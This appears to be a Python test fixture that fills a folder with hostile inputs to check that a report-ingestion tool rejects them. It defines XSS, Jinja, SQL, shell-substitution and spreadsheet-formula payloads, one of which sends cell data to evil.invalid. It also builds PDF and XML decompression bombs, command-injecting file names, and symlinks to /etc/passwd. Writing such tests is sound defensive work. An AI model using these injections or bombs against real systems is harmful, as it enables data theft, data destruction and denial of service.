"""A folder of hostile reports: hostile bytes, hostile text, and hostile file names."""

import os
import shutil
import socket
import zlib
from collections.abc import Mapping
from pathlib import Path

from tests.conftest import SAMPLES

SECRET = "the-secret-9f27c1"  # in the environment of the build, as the variable ASSURANCE_SECRET
GOOD = "may-2025/brackenmoor-report.txt"
# Text that is meant for programs: browsers, templates, spreadsheets, databases, shells, Markdown, terminals.
PAYLOADS = {
    "script": "<script>alert('hostile')</script>",
    "handler": '"><img src=x onerror="alert(`hostile`)">',
    "jinja": "{{ env_var('ASSURANCE_SECRET') }}",
    "jinja_block": "{% for name in range(9) %}{{ name }}{% endfor %}",
    "jinja_open": "{% raw %} {{ {#",
    "formula": "=cmd|'/C calc'!A1",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_link": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "sql": "'; drop table marts.fct_score; --",
    "sql_quotes": '"); delete from staging.document; /*',
    "shell": "$(touch hacked) `touch hacked` ; touch hacked",
    "markdown": "[click](javascript:alert(1)) ![x](http://evil.invalid/x.png)",
    "table": "| --- | **bold** |",
    "mathtext": "$\\frac{1$ and $x^$",
    "format": "%s %(name)s {0} {name!r} %n",
    "terminal": "\x9b31m\x9b2J\x9d0;hostile\x9c",
    "backwards": "\u202egnihton si siht\u202c",
}

_CATALOG, _PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE_OF = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<<%s>>>>"
_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
_PAGE = """Kent County Council: local authority assessment
Safeguarding
Score: {score}
{score} - Evidence shows a good standard
The local authority commitment
We act when someone is at risk. {payload}
Key findings for this quality statement
{payload}
{payload} 45.6% of people {payload} felt safe, higher than the England average of 47.9% ({payload}, 2023/24).
There were 312 people waiting {payload}, and the longest wait was 57 days.
"""


def page(payload: str = "", score: int = 3) -> str:
    """A statement's page that has `payload` wherever words may be."""
    return _PAGE.format(payload=payload, score=score)


def web_page(body: str, head: str = "") -> str:
    """A web page that is a report, with more in its body."""
    lines = "".join(f"<p>{line}</p>" for line in page().splitlines()[1:])
    return (
        f"<!doctype html><html><head>{head}<title>Kent</title></head><body onload=\"alert('hostile')\">"
        f"<h1>Kent County Council: local authority assessment</h1>{lines}{body}</body></html>"
    )


def pdf(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of these objects; the first is its catalogue."""
    content, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(objects))
    start = len(content)
    return content + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, table, len(objects) + 1, start,
    )  # fmt: skip


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A packed stream of a PDF."""
    packed = zlib.compress(content, 9)
    return b"<</Filter/FlateDecode/Length %d%s>>\nstream\n%s\nendstream" % (len(packed), entries, packed)


def inflating(megabytes: int, entries: bytes = b"") -> bytes:
    """A stream that unpacks to so many megabytes, made without ever holding them: one packed block, repeated."""
    packing = zlib.compressobj(9)
    first, block = (packing.compress(b" " * 1_000_000) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    packed = first + block * (megabytes - 1) + packing.flush()
    return b"<</Filter/FlateDecode/Length %d%s>>\nstream\n%s\nendstream" % (len(packed), entries, packed)


def endless() -> dict[str, bytes]:
    """PDFs that are never done: one draws itself again and again, one is its own catalogue, one unpacks to 2 GB."""
    calls = {
        number: stream(b"/X Do " * 20, _FORM + b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1))
        for number in range(5, 15)
    }
    drawing = {1: _CATALOG, 2: _PAGES, 3: _PAGE_OF % b"/XObject<</X 5 0 R>>", 4: stream(b"/X Do"), **calls}
    inside = {**drawing, 5: inflating(2000, _FORM)}
    return {
        "draws.pdf": pdf({**drawing, 15: stream(b"0 0 9 9 re f", _FORM)}),
        "itself.pdf": pdf({1: b"1 0 R"}),
        "inside.pdf": pdf(inside),
    }


def bombs() -> dict[str, tuple[bytes, str]]:
    """Small files that are large or endless once opened, each with the reason it must be rejected for."""
    many = dict.fromkeys(range(3, 5003), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    kids = b" ".join(b"%d 0 R" % number for number in many)
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha "}">' for n in range(12))
    return {
        "inflates.pdf": (pdf({1: _CATALOG, 2: _PAGES, 3: _PAGE_OF % b"", 4: inflating(2000)}), "too_costly"),
        "pages.pdf": (pdf({1: _CATALOG, 2: b"<</Type/Pages/Kids[%s]/Count 5000>>" % kids, **many}), "too_costly"),
        "circle.pdf": (pdf({1: _CATALOG, 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>"}), "damaged"),
        "deep.html": (web_page("<div>" * 10_000 + "5%").encode(), "damaged"),
        "tags.html": (web_page("<b>" * 200_000).encode(), "too_costly"),
        "cells.html": (web_page("<table>" + "<tr><td>5%</td></tr>" * 200_000).encode(), "too_costly"),
        "comments.html": (b"<!---->" * 500 + b"<html", "no_text"),
        "entities.html": (
            f'<?xml version="1.0"?><!DOCTYPE html [{entities}]><html><body><p>&e11;</p></body></html>'.encode(),
            "not_a_report",
        ),
        "long.txt": ((page() + "5 words. " * 400_000).encode(), "too_costly"),
        "numbers.txt": ((page() + "5 " * 400_000).encode(), "too_costly"),
    }


NAMES = (
    b"line\nbreak.txt", b"line\\nbreak.txt", b"quote'\".txt", b"$(touch hacked).txt", b"-rf.txt", b"bad\xff.txt",
    b"red\x1b[31m.txt", b"=cmd|calc.txt", b"<b onclick=alert(1)>.txt", b"{{ env_var('ASSURANCE_SECRET') }}.txt",
    b"x..\xc2\xa0.txt", b"a;drop table.txt", b"semi`touch hacked`.txt",
)  # fmt: skip


def write_folder(folder: Path) -> dict[str, str]:
    """Fill a folder with all of it and one good report; returns the reason each bad file must be rejected for."""
    (folder / GOOD).parent.mkdir(parents=True)
    shutil.copy(SAMPLES / GOOD, folder / GOOD)
    authorities = (SAMPLES / "authorities.csv").read_text(encoding="utf-8")
    manifest = ["file,authority"]
    for number, (slug, payload) in enumerate(PAYLOADS.items()):
        named = slug not in ("terminal", "backwards")  # names with control characters are refused, with their list
        quoted = payload.replace('"', '""')
        if named:
            authorities += f'X{number:08},"{quoted}","{quoted} Council","{quoted}",Example,{slug.replace("_", "-")},\n'
        (folder / f"says_{slug}.txt").write_text(
            page(payload, score=number % 4 + 1).partition("\n")[2], encoding="utf-8"
        )
        manifest.append(f"says_{slug}.txt,{slug.replace('_', '-') if named else 'kent'}")
        hidden = f"<h2>{payload}</h2><p onclick=\"alert('hostile')\">{payload} 38.{number}% of people felt safe.</p>"
        (folder / f"web_{slug}.html").write_text(web_page(hidden), encoding="utf-8")
    (folder / "authorities.csv").write_text(authorities, encoding="utf-8")
    (folder / "manifest.csv").write_text("\n".join(manifest) + "\n", encoding="utf-8")
    for number, name in enumerate(NAMES):
        content = page(f"This is page {number}.")
        (folder / os.fsdecode(name)).write_text(content, encoding="utf-8")
    expected = {}
    for name, (content, reason) in bombs().items():
        (folder / name).write_bytes(content)
        expected[name] = reason
    expected |= _write_what_is_no_file(folder)
    return expected


def _write_what_is_no_file(folder: Path) -> dict[str, str]:
    """Links that leave or loop, a pipe, a socket, a device where it may be made, and what is empty or huge."""
    expected = {
        "passwords.txt": "link_outside", "everything": "link_outside", "above": "link_loop",
        "self.txt": "link_loop", "up": "link_loop",
        "pipe.txt": "unreadable", "socket.txt": "unreadable", "empty.txt": "empty", "huge.txt": "too_large",
    }  # fmt: skip
    (folder / "passwords.txt").symlink_to("/etc/passwd")
    (folder / "everything").symlink_to("/usr")
    (folder / "above").symlink_to("/")
    (folder / "self.txt").symlink_to(folder / "self.txt")
    (folder / "up").symlink_to(folder)
    os.mkfifo(folder / "pipe.txt")
    here = Path.cwd()
    os.chdir(folder)  # the name of a socket may have a hundred characters
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind("socket.txt")
    finally:
        os.chdir(here)
    (folder / "empty.txt").touch()
    with (folder / "huge.txt").open("wb") as huge:
        huge.truncate(3_000_000_000)
    try:
        os.mknod(folder / "device.txt", 0o20666, os.makedev(1, 5))  # /dev/zero
        expected["device.txt"] = "unreadable"
    except PermissionError:
        pass  # only root may
    return expected
